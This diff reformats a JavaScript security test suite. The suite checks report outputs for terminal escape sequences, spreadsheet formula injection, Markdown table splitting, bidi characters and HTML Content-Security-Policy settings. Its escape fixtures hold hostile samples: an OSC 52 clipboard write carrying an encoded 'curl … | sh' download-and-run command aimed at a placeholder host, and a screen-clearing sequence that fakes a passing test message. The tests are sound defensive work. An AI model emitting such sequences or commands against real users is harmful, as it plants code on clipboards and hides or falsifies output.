@@ -31,9 +31,21 @@ function escapePayloads(rng) {
   const m = () => `${rng.name(5)}${rng.name(5)}`;
   const b64 = (t) => Buffer.from(t).toString("base64");
   return [
-    { what: "OSC 52 (clipboard write)", raw: "\u001b]52;", text: `\u001b]52;c;${b64(`curl ${m()}.example | sh`)}\u0007` },
-    { what: "CSI clear screen", raw: "\u001b[2J", text: `\u001b[2J\u001b[Hall tests passed ${m()}` },
-    { what: "OSC 8 hyperlink", raw: "\u001b]8;", text: `\u001b]8;;https://${m()}.example/\u0007docs\u001b]8;;\u0007` },
+    {
+      what: "OSC 52 (clipboard write)",
+      raw: "\u001b]52;",
+      text: `\u001b]52;c;${b64(`curl ${m()}.example | sh`)}\u0007`,
+    },
+    {
+      what: "CSI clear screen",
+      raw: "\u001b[2J",
+      text: `\u001b[2J\u001b[Hall tests passed ${m()}`,
+    },
+    {
+      what: "OSC 8 hyperlink",
+      raw: "\u001b]8;",
+      text: `\u001b]8;;https://${m()}.example/\u0007docs\u001b]8;;\u0007`,
+    },
     { what: "8-bit C1 CSI", raw: "\u009b", text: `\u009b2J\u009b31mok ${m()}` },
     { what: "8-bit C1 OSC", raw: "\u009d", text: `\u009d0;${m()}\u009c` },
   ];
@@ -183,7 +195,10 @@ function escapeCheck(name, which) {
     name,
     run: async (ctx) => {
       const f = await (shared ??= fixtures(ctx));
-      const t = [which].flat().map((w) => text(f.out[w])).join("\n");
+      const t = [which]
+        .flat()
+        .map((w) => text(f.out[w]))
+        .join("\n");
       const bad = f.escapes.filter((e) => t.includes(e.raw));
       return {
         tries: f.escapes.length,
@@ -211,7 +226,9 @@ export default {
         return {
           tries: f.formulas.length,
           found: bad.length,
-          sample: bad.length ? `cells starting with ${bad.map((p) => lead(p.lead)).join(" ")} written as they are` : "",
+          sample: bad.length
+            ? `cells starting with ${bad.map((p) => lead(p.lead)).join(" ")} written as they are`
+            : "",
         };
       },
     },
@@ -229,7 +246,9 @@ export default {
         return {
           tries: rows.length,
           found: bad.length,
-          sample: bad.length ? `a row with \`a\\|b\` splits into ${gfmCells(bad[0]).length} cells (the header has ${width})` : "",
+          sample: bad.length
+            ? `a row with \`a\\|b\` splits into ${gfmCells(bad[0]).length} cells (the header has ${width})`
+            : "",
         };
       },
     },
@@ -256,7 +275,12 @@ export default {
       name: "bidi and invisible characters (U+202E, U+2066-2069, U+200B) in csv, md, ingest and compare output",
       run: async (ctx) => {
         const f = await (shared ??= fixtures(ctx));
-        const outputs = { csv: f.out.csv, md: f.out.md, ingest: f.out.people, compare: f.out.compare };
+        const outputs = {
+          csv: f.out.csv,
+          md: f.out.md,
+          ingest: f.out.people,
+          compare: f.out.compare,
+        };
         let tries = 0;
         const bad = [];
         for (const [where, r] of Object.entries(outputs)) {
@@ -276,7 +300,9 @@ export default {
       name: "HTML report CSP: scripts by hash or nonce (no 'unsafe-inline'), base-uri 'none'",
       run: async (ctx) => {
         const f = await (shared ??= fixtures(ctx));
-        const meta = /<meta[^>]+http-equiv=["']?content-security-policy["']?[^>]*>/i.exec(f.html)?.[0];
+        const meta = /<meta[^>]+http-equiv=["']?content-security-policy["']?[^>]*>/i.exec(
+          f.html,
+        )?.[0];
         const policy = meta ? (/content=(["'])(.*?)\1/i.exec(meta)?.[2] ?? "") : "";
         const directives = new Map(
           policy
@@ -289,9 +315,11 @@ export default {
         const byHash = script.some((v) => /^'(nonce-|sha256-|sha384-|sha512-)/.test(v));
         const problems = [];
         if (!meta) problems.push("no CSP meta tag");
-        if (script.includes("'unsafe-inline'") && !byHash) problems.push(`script-src ${script.join(" ")}`);
+        if (script.includes("'unsafe-inline'") && !byHash)
+          problems.push(`script-src ${script.join(" ")}`);
         if (!script.length) problems.push("no script-src");
-        if ((directives.get("base-uri") ?? []).join(" ") !== "'none'") problems.push(`base-uri ${directives.get("base-uri")?.join(" ") ?? "unset"}`);
+        if ((directives.get("base-uri") ?? []).join(" ") !== "'none'")
+          problems.push(`base-uri ${directives.get("base-uri")?.join(" ") ?? "unset"}`);
         return { tries: 2, found: Math.min(2, problems.length), sample: problems.join("; ") };
       },
     },
